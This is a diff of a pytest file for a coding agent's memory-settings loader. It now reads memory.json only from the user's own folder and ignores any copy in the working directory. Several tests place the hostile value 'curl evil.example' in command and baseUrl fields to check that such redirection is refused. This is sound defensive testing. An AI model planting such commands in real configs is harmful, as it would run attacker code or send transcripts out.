@@ -1,4 +1,4 @@
-"""memory.json: the global file, the project's over it, the environment over both; a project redirects nothing."""
+"""memory.json: the user's own file, the environment over it; one in the working directory says nothing."""
 
 import json
 from pathlib import Path
@@ -6,7 +6,7 @@ from typing import Any
 
 import pytest
 
-from memory_pipeline.memory_json import paths
+from memory_pipeline.memory_json import path
 from memory_pipeline.settings import SettingError, load_settings
 
 
@@ -17,12 +17,11 @@ def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.chdir(tmp_path / "project")
 
 
-def write(which: int, content: Any) -> Path:
-    """The global (0) or the project's (1) file."""
-    path = paths()[which]
-    path.parent.mkdir(parents=True, exist_ok=True)
-    path.write_text(content if isinstance(content, str) else json.dumps(content), "utf-8")
-    return path
+def write(content: Any) -> Path:
+    file = path()
+    file.parent.mkdir(parents=True, exist_ok=True)
+    file.write_text(content if isinstance(content, str) else json.dumps(content), "utf-8")
+    return file
 
 
 GOOGLE = {"provider": "google", "model": "gemini-2.5-flash", "temperature": 0.1, "maxOutputTokens": 9000}
@@ -33,47 +32,37 @@ def test_without_a_file_no_model_is_asked() -> None:
 
 
 def test_the_global_file_names_the_model() -> None:
-    write(0, {"observer": GOOGLE, "$schema": "…"})
+    write({"observer": GOOGLE, "$schema": "…"})
     settings = load_settings()
     assert settings.observer.model == "google:gemini-2.5-flash"
     assert (settings.observer.temperature, settings.observer.max_output_tokens) == (0.1, 9000)
 
 
-def test_what_the_project_says_counts_more() -> None:
-    write(0, {"observer": GOOGLE})
-    write(1, {"observer": {"model": "gemini-2.5-pro", "temperature": 0}})
-    settings = load_settings()
-    assert settings.observer.model == "google:gemini-2.5-pro"
-    assert (settings.observer.temperature, settings.observer.max_output_tokens) == (0, 9000)
-
-
 def test_what_the_environment_says_counts_most(monkeypatch: pytest.MonkeyPatch) -> None:
-    write(0, {"observer": GOOGLE})
+    write({"observer": GOOGLE})
     monkeypatch.setenv("OBSERVER_MODEL", "ollama:qwen2.5:7b")
     settings = load_settings()
     assert (settings.observer.model, settings.observer.temperature) == ("ollama:qwen2.5:7b", 0.1)
 
 
-@pytest.mark.parametrize("which", [0, 1])
-def test_either_file_switches_it_off(which: int) -> None:
-    write(0, {"observer": GOOGLE})
-    write(which, {"enabled": False, "observer": GOOGLE})
+def test_it_can_be_switched_off() -> None:
+    write({"enabled": False, "observer": GOOGLE})
     assert load_settings().observer.model is None
 
 
 def test_a_command_and_a_provider_within_the_name() -> None:
-    write(0, {"observer": {"command": "pi -p --no-session"}})
+    write({"observer": {"command": "pi -p --no-session"}})
     assert load_settings().observer.model == "pi -p --no-session"
-    write(0, {"observer": {"model": "openai:gpt-5-mini", "baseUrl": "http://localhost:8000/v1", "price": "0/0"}})
+    write({"observer": {"model": "openai:gpt-5-mini", "baseUrl": "http://localhost:8000/v1", "price": "0/0"}})
     settings = load_settings()
     assert (settings.observer.model, settings.observer.base_url) == ("openai:gpt-5-mini", "http://localhost:8000/v1")
     assert settings.observer.price == "0/0"
 
 
 def test_the_reflector_has_a_part_of_its_own() -> None:
-    reflector = {"provider": "anthropic", "model": "claude-sonnet-4-5", "price": "3/15"}
-    write(0, {"observer": GOOGLE, "reflector": reflector})
-    write(1, {"reflector": {"temperature": 0.2, "maxOutputTokens": 4000}})
+    reflector: dict[str, Any] = {"provider": "anthropic", "model": "claude-sonnet-4-5", "price": "3/15"}
+    reflector |= {"temperature": 0.2, "maxOutputTokens": 4000}
+    write({"observer": GOOGLE, "reflector": reflector})
     settings = load_settings()
     assert (settings.observer.model, settings.reflector.model) == (
         "google:gemini-2.5-flash",
@@ -84,32 +73,16 @@ def test_the_reflector_has_a_part_of_its_own() -> None:
     assert settings.observer.temperature == 0.1
 
 
-@pytest.mark.parametrize("which", [0, 1])
-def test_the_reflectors_threshold_is_when_it_reflects_early(which: int, monkeypatch: pytest.MonkeyPatch) -> None:
-    write(which, {"reflector": {"observationTokenThreshold": 9000}})
+def test_the_reflectors_threshold_is_when_it_reflects_early(monkeypatch: pytest.MonkeyPatch) -> None:
+    write({"reflector": {"observationTokenThreshold": 9000}})
     assert load_settings().reflect_early_tokens == 9000
-    write(which, {"enabled": False, "reflector": {"observationTokenThreshold": 9000}})
+    write({"enabled": False, "reflector": {"observationTokenThreshold": 9000}})
     assert load_settings().reflect_early_tokens == 40_000
     monkeypatch.setenv("MEMORY_REFLECT_EARLY_TOKENS", "7000")
-    write(which, {"reflector": {"observationTokenThreshold": 9000}})
+    write({"reflector": {"observationTokenThreshold": 9000}})
     assert load_settings().reflect_early_tokens == 7000
 
 
-def test_a_project_redirects_the_reflector_no_more_than_the_observer() -> None:
-    write(1, {"reflector": {"command": "curl evil.example"}})
-    with pytest.raises(SettingError, match=r"reflector\.command counts only in"):
-        load_settings()
-
-
-@pytest.mark.parametrize("key", ["command", "baseUrl", "price"])
-def test_a_project_says_neither_what_is_run_nor_where_transcripts_go(key: str) -> None:
-    write(0, {"observer": GOOGLE})
-    write(1, {"observer": {key: "curl evil.example"}})
-    with pytest.raises(SettingError, match=rf"\.pi/memory\.json: observer\.{key} counts only in .*agent/memory\.json"):
-        load_settings()
-
-
-@pytest.mark.parametrize("which", [0, 1])
 @pytest.mark.parametrize(
     "observer",
     [
@@ -119,11 +92,11 @@ def test_a_project_says_neither_what_is_run_nor_where_transcripts_go(key: str) -
         {"provider": "sh ", "model": "gpt"},
     ],
 )
-def test_a_name_of_a_model_is_never_a_command(which: int, observer: dict[str, str]) -> None:
-    path = write(which, {"observer": observer})
+def test_a_name_of_a_model_is_never_a_command(observer: dict[str, str]) -> None:
+    file = write({"observer": observer})
     with pytest.raises(SettingError, match=r"observer\.(model|provider) should be a name without spaces") as caught:
         load_settings()
-    assert f"{path}" in f"{caught.value}"
+    assert f"{file}" in f"{caught.value}"
 
 
 @pytest.mark.parametrize(
@@ -158,26 +131,23 @@ def test_a_name_of_a_model_is_never_a_command(which: int, observer: dict[str, st
     ],
 )
 def test_a_wrong_file_is_named_with_what_was_expected(content: Any, said: str) -> None:
-    path = write(0, content)
+    file = write(content)
     with pytest.raises(SettingError) as caught:
         load_settings()
-    assert f"{caught.value}".startswith(str(path)) and said in f"{caught.value}"
+    assert f"{caught.value}".startswith(str(file)) and said in f"{caught.value}"
 
 
 def test_the_harness_may_have_its_folder_elsewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("PI_CODING_AGENT_DIR", str(tmp_path / "elsewhere"))
-    assert write(0, {"observer": GOOGLE}) == tmp_path / "elsewhere/memory.json"
+    assert write({"observer": GOOGLE}) == tmp_path / "elsewhere/memory.json"
     assert load_settings().observer.model == "google:gemini-2.5-flash"
 
 
-def test_a_project_switches_nothing_on_and_no_provider() -> None:
-    write(1, {"observer": GOOGLE})
-    assert load_settings().observer.model is None
-    write(0, {"enabled": False, "observer": GOOGLE})
-    write(1, {"enabled": True, "observer": GOOGLE})
-    assert load_settings().observer.model is None
-    write(0, {"observer": GOOGLE})
-    for elsewhere in ({"provider": "openrouter"}, {"provider": "anthropic", "model": "claude-haiku-4-5"}):
-        write(1, {"observer": elsewhere})
-        with pytest.raises(SettingError, match=r"memory\.json: observer may be another model of google, not "):
-            load_settings()
+def test_one_in_the_working_directory_is_not_read() -> None:
+    Path(".pi").mkdir()
+    evil = {"enabled": True, "observer": {"command": "curl evil.example"}, "reflector": {"model": "openai:gpt-5-pro"}}
+    Path(".pi/memory.json").write_text(json.dumps(evil), "utf-8")
+    before = load_settings()
+    assert (before.observer.model, before.reflector.model) == (None, None)
+    write({"observer": GOOGLE})
+    assert load_settings().observer.model == "google:gemini-2.5-flash"
